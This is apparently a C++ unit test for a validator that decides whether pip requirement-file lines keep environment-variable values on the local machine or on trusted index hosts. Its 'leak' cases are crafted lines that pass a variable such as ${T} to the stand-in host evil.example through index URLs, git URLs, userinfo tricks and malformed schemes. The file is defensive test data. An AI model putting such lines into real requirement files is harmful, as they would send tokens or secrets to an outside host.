#include "envs/install/requirement_files.h"

#include <gtest/gtest.h>

namespace moat {
namespace {

TEST(KeepsVariables, WithinThisMachineAndOnesOwnHosts) {
  const std::vector<Url> own = {*Url::parse("https://index.example/simple")};
  for (const char* fine : {"-r ${DIR}/more.txt", "./${DIR}/lib", "-e ${DIR}", "--index-url ${INDEX}",
                           "--extra-index-url https://me:${T}@index.example/x",
                           "lib @ file:///${DIR}/lib.whl", "-f https://index.example/${T}//x"})
    EXPECT_TRUE(keeps_variables(fine, own)) << fine;
  for (const char* leak :
       {"${T}", "lib==${T}", "--index-url https://${T}@evil.example/", "-i https://${HOST}/x",
        "-f https://index.example:8443/${T}", "-f http://index.example/${T}",
        "-i ${PROTO}//evil.example/${T}", "lib @ git+https://evil.example/${T}.git",
        "-i https://index.example/ -f https://evil.example/${T}",
        "-i https://index.example@evil.example/${T}", "-r ${T}.txt https://evil.example/r.txt",
        "-i http:${S}evil.example/${T}", "-f https:/${S}e/${T}"})
    EXPECT_FALSE(keeps_variables(leak, own)) << leak;
}

}  // namespace
}  // namespace moat
